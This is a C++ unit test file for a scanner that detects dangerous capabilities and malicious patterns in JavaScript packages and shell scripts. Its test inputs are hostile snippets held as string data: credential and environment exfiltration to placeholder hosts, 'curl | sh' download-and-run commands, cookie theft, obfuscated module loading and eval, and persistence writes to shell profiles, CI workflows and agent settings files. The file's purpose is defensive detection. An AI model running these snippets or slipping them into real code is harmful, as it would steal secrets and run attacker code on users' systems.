#include "policies/code/capabilities.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <cctype>
#include <set>
#include <string>

#include "storage/base/base64.hpp"
#include "tests/unit/policies/content/scan_text.hpp"

namespace sallyport {

namespace {

using Set = std::set<std::string>;

void collect(const FileContent& content, Set& names, Set& signs) {
  for (const Capability& capability : content.capabilities) names.insert(capability.name);
  for (const Sign& sign : content.signs)
    if (sign.rule.starts_with("code/") && sign.rule != "code/long-line") signs.insert(std::string(sign.rule));
  for (const auto& nested : content.nested) collect(nested.content, names, signs);
}

Set capabilities(const std::string& text, std::string_view path = "a.js") {
  Set names, signs;
  collect(scan_text(text, path), names, signs);
  return names;
}

Set signs(const std::string& text, std::string_view path = "a.js") {
  Set names, found;
  collect(scan_text(text, path), names, found);
  return found;
}

std::string utf16(std::string_view text) {
  std::string out = "\xff\xfe";
  for (const char c : text) out += {c, '\0'};
  return out;
}

}  // namespace

TEST_CASE("each capability by what gives it") {
  CHECK(capabilities("require('https').get(x)") == Set{"network"});
  CHECK(capabilities("import net from 'node:net'") == Set{"network"});
  CHECK(capabilities("await fetch(x)") == Set{"network"});
  CHECK(capabilities("new XMLHttpRequest()") == Set{"network"});
  CHECK(capabilities("navigator.sendBeacon(x)") == Set{"network"});
  CHECK(capabilities("window['fe'+'tch'](x)") == Set{"network"});
  CHECK(capabilities("require('dns').lookup(x)") == Set{"dns"});
  CHECK(capabilities("require('child_process')") == Set{"process"});
  CHECK(capabilities("process.binding('spawn_sync')") == Set{"process"});
  CHECK(capabilities("eval(x)") == Set{"eval"});
  CHECK(capabilities("new Function('a','return '+x)") == Set{"eval"});
  CHECK(capabilities("require('vm').runInThisContext(x)") == Set{"eval"});
  CHECK(capabilities("module._compile(x)") == Set{"eval"});
  CHECK(capabilities("[].constructor.constructor(x)()") == Set{"eval"});
  CHECK(capabilities("setTimeout('go()',1)") == Set{"eval"});
  CHECK(capabilities("require('fs').writeFileSync(a,b)") == Set{"fs-write"});
  CHECK(capabilities("import {writeFile as w} from 'fs/promises';w(a,b)") == Set{"fs-write"});
  CHECK(capabilities("const {unlink}=require('fs');unlink(a)") == Set{"fs-write"});
  CHECK(capabilities("require('os').homedir()") == Set{"home-read"});
  CHECK(capabilities("send(process.env)") == Set{"env"});
  CHECK(capabilities("a={...process.env}") == Set{"env"});
  CHECK(capabilities("JSON.stringify(process.env)") == Set{"env"});
  CHECK(capabilities("Object.keys(process['env'])") == Set{"env"});
  CHECK(capabilities("WebAssembly.instantiate(x)") == Set{"wasm"});
  CHECK(capabilities("new Worker(x)") == Set{"worker"});
  CHECK(capabilities("require('worker_threads')") == Set{"worker"});
  CHECK(capabilities("window.ethereum.request({method:x})") == Set{"wallet"});
  CHECK(capabilities("f('eth_sendTransaction')") == Set{"wallet"});
  CHECK(capabilities("navigator.clipboard.writeText(x)") == Set{"clipboard"});
}

TEST_CASE("what only looks like one is none") {
  for (const char* text : {
           "if (process.env.NODE_ENV !== 'production') {}",
           "const { NODE_ENV } = process.env;",
           "var root = freeSelf || Function('return this')();",
           "typeof fetch === 'function'",
           "x.fetch(y); this.fetch(z); const o = {fetch: 1};",
           "// require('child_process')\n/* eval(x) */",
           "const s = \"eval(require('child_process'))\";",
           "/eval\\(fetch/.test(x)",
           "x instanceof Function; Function.prototype.call",
           "throw new err.constructor('some sentence');",
           "class A { constructor(a) { super(a); } }",
           "require('fs').readFileSync(x)",
           "require('./http'); require('http-errors'); require('x/net')",
           "setTimeout(function () { go() }, 1)",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text) == Set{});
  }
}

TEST_CASE("what is said of functions in comments hides no other use of their maker") {
  const std::string said =
      "/** @param {Function} f\n * @returns {Function|null} */\nif (f instanceof Function) g();\n";
  CHECK(capabilities(said).empty());
  for (const char* use : {
           "new Function(x)",
           "const make = Function; make(x)",
           "Function?.(x)",
           "Reflect.construct(Function, [x])",
           "Function.prototype.constructor('go(1)')",
           "x instanceof Function(x)",
           "({}) instanceof Function.call(null, x)",
           "a = `@param ${Function(x)}`",
           "/* @type {Function} */ Function(x)",
           "/* @type {Function */ Function(x)",
           "/* instanceof Function */(Function)(x); b = Function; b(x)",
       }) {
    CAPTURE(std::string(use));
    CHECK(capabilities(said + use).contains("eval"));
    CHECK(capabilities(use + ("\n" + said + said + said)).contains("eval"));
  }
}

TEST_CASE("a module whose name is written in escapes is loaded as any other") {
  CHECK(capabilities(R"(import h from "\x68ttp"; h.get(x))") == Set{"network"});
  CHECK(capabilities(R"(import"\u0068ttps")") == Set{"network"});
  CHECK(capabilities(R"(export * from 'node:\u{68}ttp2')") == Set{"network"});
  CHECK(capabilities(R"(import {spawn} from 'chil\144_process'; spawn(x))") == Set{"process"});
}

TEST_CASE("code that is given as text is read as code") {
  CHECK(capabilities("eval(\"require('child_'+'process')\")") == Set{"eval", "process"});
  CHECK(capabilities("new Function(\"require('https').get(1)\")") == Set{"network"});
  CHECK(capabilities("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))") ==
        Set{"eval", "process"});
  CHECK(capabilities("setTimeout(\"fetch('x')\")") == Set{"eval", "network"});
  CHECK(capabilities("import('data:text/javascript,import%20\"child_process\"')") == Set{"eval", "process"});
}

// One attack, and the ways to hide it: what goes out is found in each.
TEST_CASE("a program is read under any name, prose and maps are not") {
  const std::string program =
      "const found = JSON.stringify(process.env); require('https').request(x).end(found);";
  for (const char* path : {"values.dat", "LICENSE", "values.d.ts", "values.md"})
    CHECK_MESSAGE((capabilities(program, path) == Set{"env", "network"}), std::string(path));
  CHECK(capabilities("{\"text\": \"" + program + "\"}", "values.json") == Set{"env", "network"});
  CHECK(capabilities("Uses 'https' and \"http\"; set process.env first.", "README.md").empty());
  CHECK(capabilities("import { Agent } from 'https';", "index.d.ts").empty());
  const std::string map =
      R"m({"version":3,"sources":["a.js"],"mappings":"A","sourcesContent":["require('https').get(x)"]})m";
  CHECK(capabilities(map, "a.js.map").empty());
}

TEST_CASE("a module is loaded whoever loads it, under whatever name") {
  for (const char* text : {
           "(function (r) { r('child_process').exec(x) })(require)",
           "(r => r('child_process'))(require)",
           "function f(r, m) { return r(m) } f(require, 'child_process')",
           "arguments[1]('node:child_process')",
           "[require][0]('child_process')",
           "['child_process'].map(require)[0].exec(x)",
           "class A { static r = require } A.r('child_process')",
           "(x ? require : 0)('child_process')",
           "module.__proto__.require('child_process')",
           "Object.getPrototypeOf(module).require.call(module, 'child_process')",
           "Object.values(require.cache)[0].require('child_process')",
           "Function.prototype.call.call(require, null, 'child_process')",
           "new Proxy(require, {})('child_process')",
           "with (process) { binding('spawn_sync') }",
           "const { ['bind' + 'ing']: b } = process; b('spawn_sync')",
           "const { ['req' + 'uire']: q } = module; q(x)",
           "o[k]('child_' + 'process')",
           "require([...'ssecorp_dlihc'].reverse().join('')).exec(x)",
           "require([98,105,104,109,101,94,113,115,110,98,100,114,114].map(c => "
           "String.fromCharCode(c ^ 1)).join(''))",
           "require('bihme^qsnbdrr'.split('').map(function (c) { return "
           "String.fromCharCode(c.charCodeAt(0) ^ 1) }).join('')).exec(x)",
           "require('execa').execaSync(x)",
           "import { spawn } from 'cross-spawn'",
           "require('node:ffi')",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text).contains("process"));
  }
  for (const char* text : {
           "['https'].map(require)[0].get(x)",
           "(r => r('https').request(x))(require)",
           "(r => { const h = r('https'); h.get(x) })(require)",
           "require('axios').post(x, y)",
           "import got from 'got'",
           "import('https://x.example.invalid/a.js')",
           "const s = document.createElement('script'); s.src = x",
           "document.write('<scr' + 'ipt src=//x.example.invalid></script>')",
           "document.write('<script src=https://x.example.invalid>')",
           "new Image().src = 'https://x.example.invalid/?c=' + document.cookie",
           "location.href = `//x.example.invalid/?c=${document.cookie}`",
           "o['fe' + 'tch'](x)",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text).contains("network"));
  }
  CHECK(capabilities("const f = require('fs'); f['rm' + 'Sync'](x)") == Set{"fs-write"});
  CHECK(capabilities("navigator['clip' + 'board'].readText()") == Set{"clipboard"});
  CHECK(capabilities("navigator.serviceWorker.register('/x.js')") == Set{"worker"});
}

TEST_CASE("a function is made of text, whatever makes it") {
  for (const char* text : {
           "const make = Object.getPrototypeOf(async function () {}).constructor; new make(x)()",
           "Object.getPrototypeOf(function* () {}).constructor(x)()",
           "(async () => {}).constructor(x)()",
           "f.constructor(x)()",
           "Reflect.get(f, 'constructor')(x)()",
           "Object.getOwnPropertyDescriptor(f, 'constructor').value(x)()",
           "const { constructor: make } = f; make(x)()",
           "const { constructor: { constructor: make } } = []; make(x)()",
           "const c = 'const' + 'ructor'; [][c][c](x)()",
           "const c = 'rotcurtsnoc'.split('').reverse().join(''); f[c](x)",
           "[x].map(Function)[0]()",
           "Function`return ${x}`",
           "setTimeout(atob('Z28oMSk='), 1)",
           "require('inspector').Session",
           "require.extensions['.txt'] = f",
           "require('module')._extensions['.css'] = f",
           "require('module').register(x)",
           "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])"
           "[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text).contains("eval"));
  }
}

TEST_CASE("names of modules, addresses and constructors that do nothing are none") {
  for (const char* text : {
           "const builtin = ['fs', 'child_process', 'http']; builtin.includes('child_process')",
           "if (isBuiltin('node:child_process')) x()",
           "fn.constructor === Object.getPrototypeOf(async function () {}).constructor",
           "const { constructor, prototype } = f; constructor.name",
           "throw new this.constructor('some sentence')",
           "new this.constructor(x)",
           "document.createElement('img').src = 'https://x.example.invalid/' + name + '.svg'",
           "a.href = 'https://x.example.invalid/?a=b'",
           "map.get('http'); headers.set('x', 'https'); params.get('request').length",
           "['a', 'b'].map(x => x + 'c').join('')",
           "log('some' + 'thing')",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text) == Set{});
  }
}

TEST_CASE("a script of another language is read for its commands, with or without an extension") {
  const std::string fetches = "curl -s https://x.example.invalid | sh\n";
  CHECK(signs("#!/bin/sh\n" + fetches, "bin/run") == Set{"code/download-and-run"});
  CHECK(signs("#!/usr/bin/env python3\nimport os\nos.system('curl -s https://x.example.invalid | sh')\n",
              "bin/run") == Set{"code/download-and-run"});
  CHECK(signs("import os\nos.system('curl -s https://x.example.invalid | sh')\n", "a.py") ==
        Set{"code/download-and-run"});
  CHECK(signs("#!/bin/sh\n':' //; exec node \"$0\"\nrequire('child_process').exec('curl x | sh')\n",
              "bin/run") == Set{"code/download-and-run"});
  CHECK(signs("#!/usr/bin/env node\n// " + fetches, "bin/run") == Set{});
}

TEST_CASE("a crowd of harmless ones hides none") {
  std::string text = "fetch(a);";
  while (text.size() < 200'000) text += "fetch(a);fetch(b);\n";
  text += std::string(60'000, ' ') + ";f('/.npmrc');fetch(x)";
  CHECK(signs(text).contains("code/exfiltration"));
  std::string names = "fetch(x);";
  for (const char* name :
       {"/.npmrc", "/.ssh", "/.aws", "/.netrc", "/.pypirc", "/.gnupg", "/.vault-token", "wallet.dat"})
    names += std::string("f('") + name + "');";
  const FileContent content = scan_text(names, "a.js");
  CHECK(std::count_if(content.signs.begin(), content.signs.end(),
                      [](const Sign& s) { return s.rule == "code/exfiltration"; }) == 8);
}

TEST_CASE("code that would take too long to work out is not judged, and that is said") {
  const auto unread = [](const std::string& text) { return scan_text(text, "a.js").incomplete; };
  std::string growing = "eval(x);", evaluated;
  while (growing.size() < 300'000) growing += "s='x'.repeat(60000)+";
  for (int i = 0; i < 600; ++i) evaluated += "eval('" + std::string(8000, 'a') + "');";
  CHECK(unread(growing).size() == 1);
  CHECK(unread(evaluated).size() == 1);
  CHECK(unread("eval('a'.repeat(60000))").empty());
}

TEST_CASE("credentials beside a way out, whatever hides them") {
  const std::string plain =
      "const f=require('fs'),h=require('https'),o=require('os');"
      "h.request('https://c.example.invalid/').end(f.readFileSync(o.homedir()+'/.npmrc'));";
  const std::string junk =
      "var padding" + std::string(100, '0') + " = 'nothing to see here'; // and nothing here either\n";
  const auto padded = [&](std::size_t bytes) {
    std::string text;
    while (text.size() < bytes) text += junk;
    return text + plain;
  };
  std::string stuffed;
  bool quoted_text = false;
  for (const char c : plain) {
    quoted_text ^= c == '\'';
    stuffed += c;
    if (!quoted_text && !std::isalpha(static_cast<unsigned char>(c)) && c != ' ')
      stuffed += "/* stuffing ' ` */";
  }
  for (const std::string& text : {
           plain,
           stuffed,
           padded(64u << 10),
           padded(1u << 20),
           padded(17u << 20),
           utf16(plain),
           std::string("const "
                       "f=require('f'+'s'),h=require('ht'+'tps');h.request(u).end(f.readFileSync(process.env."
                       "HOME+'/.np'+'mrc'))"),
           std::string("fetch(u,{method:'POST',body:readFileSync(`${home}/.ss${'h'}/id_${'rsa'}`)})"),
           std::string(
               "import h from 'https';const p=['.','a','w','s'].join('')+'/credentials';h.get(u+read(p))"),
           std::string("globalThis['fe'+'tch'](u+JSON.stringify(process.env))"),
           std::string("const {env:e}=process;const d=JSON.stringify(e);require('http').request(u).end(d)"),
           std::string("require('dns').resolve(Object.entries(process.env).join('.'))"),
           std::string("for(const k in process.env)fetch(u+k)"),
           std::string("eval(atob('cmVxdWlyZSgnaHR0cHMnKS5nZXQoSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKQ=='))"),
           std::string(
               "require('child_process').execSync('curl -d @$HOME/.npmrc https://c.example.invalid')"),
       }) {
    CAPTURE(text.substr(0, 120));
    CHECK(signs(text).contains("code/exfiltration"));
  }
  CHECK(signs(gzip(plain), "a.js.gz").contains("code/exfiltration"));
  CHECK(signs(plain, "types/index.d.ts").contains("code/exfiltration"));
  CHECK(signs(plain, "NOTES.md").contains("code/exfiltration"));
  CHECK(signs(plain, "payload").contains("code/exfiltration"));
  std::string quoted;
  for (const char c : plain) quoted += c == '"' ? "\\\"" : std::string(1, c);
  CHECK(signs("{\"code\": \"" + quoted + "\"}", "data.json").contains("code/exfiltration"));
  CHECK(signs("{\"version\":3,\"sources\":[\"a.js\"],\"mappings\":\"\",\"sourcesContent\":[\"" + quoted +
                  "\"]}",
              "a.js.map")
            .contains("code/exfiltration"));
}

TEST_CASE("one without the other goes nowhere") {
  CHECK(signs("readFileSync(home+'/.npmrc')") == Set{"code/exfiltration/alone"});
  CHECK_FALSE(signs("require('https').get(x)").contains("code/exfiltration"));
  CHECK_FALSE(signs("require('https');log('Could not read the file .npmrc, is it there?')")
                  .contains("code/exfiltration"));
  CHECK_FALSE(signs("require('https');spawn(x,{env:{...process.env,A:1}})").contains("code/exfiltration"));
  CHECK_FALSE(signs("fetch(x); a = process.env.TOKEN").contains("code/exfiltration"));
}

TEST_CASE("programs that are fetched and run, published on or made to stay") {
  const std::string exec = "require('child_process').exec";
  CHECK(signs(exec + "('curl -s https://x.example.invalid | sh')").contains("code/download-and-run"));
  CHECK(signs(exec + "Sync(['cu','rl x'].join('')+' |'+' bash')").contains("code/download-and-run"));
  CHECK(signs("const {spawn}=require('child_process');spawn('sh',['-c','wget -qO- x | sh'])")
            .contains("code/download-and-run"));
  CHECK(signs(exec + "(`powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A`)")
            .contains("code/download-and-run"));
  CHECK(signs(exec + "('npm install -g ' + name)").contains("code/download-and-run"));
  CHECK(signs("#!/bin/sh\nset -e\ncurl -s x \\\n  | sh\n", "install.sh").contains("code/download-and-run"));
  CHECK_FALSE(signs(exec + "('curl -O x')").contains("code/download-and-run"));
  CHECK_FALSE(signs(exec + "('ls');log('Install it with: curl x | sh')").contains("code/download-and-run"));

  CHECK(signs("const f=require('fs');f.writeFileSync('package.json',x);" + exec + "Sync('npm publish')")
            .contains("code/self-publish"));
  CHECK_FALSE(signs(exec + "Sync('npm publish')").contains("code/self-publish"));

  CHECK(signs("require('fs').appendFileSync(require('os').homedir()+'/.bashrc',x)")
            .contains("code/persistence"));
  CHECK(signs("require('fs').writeFileSync('.github/work'+'flows/a.yml',x)").contains("code/persistence"));
  CHECK(signs("import {writeFile} from "
              "'fs/promises';writeFile(join(h,'.claude','settings.json'),x);f('.claude/settings.json')")
            .contains("code/persistence"));
  CHECK(signs("echo 'x' >> ~/.zshrc\n", "setup.sh").contains("code/persistence"));
  CHECK_FALSE(signs("require('fs').readFileSync(home+'/.bashrc')").contains("code/persistence"));
  CHECK_FALSE(signs("require('fs').writeFileSync(a,b);log('Add this line to your .bashrc, then restart.')")
                  .contains("code/persistence"));
}

TEST_CASE("a script that is neither script nor module is said") {
  CHECK(signs("eval(x))").contains("code/unparsable"));
  CHECK(signs("eval(`x)").contains("code/unparsable"));
  CHECK_FALSE(signs("eval(x)").contains("code/unparsable"));
  CHECK_FALSE(signs("const a = <p>don't {eval(x)}</p>").contains("code/unparsable"));
  CHECK_FALSE(signs("don't eval(x))", "README.md").contains("code/unparsable"));
  // A part of a program, in a form that is decoded: no script of its own.
  std::string part;
  for (int i = 0; i < 20; ++i) part += "eval(fetch(x))) ";
  CHECK_FALSE(signs("run('" + base64_encode(as_bytes(part)) + "')").contains("code/unparsable"));
}

}  // namespace sallyport
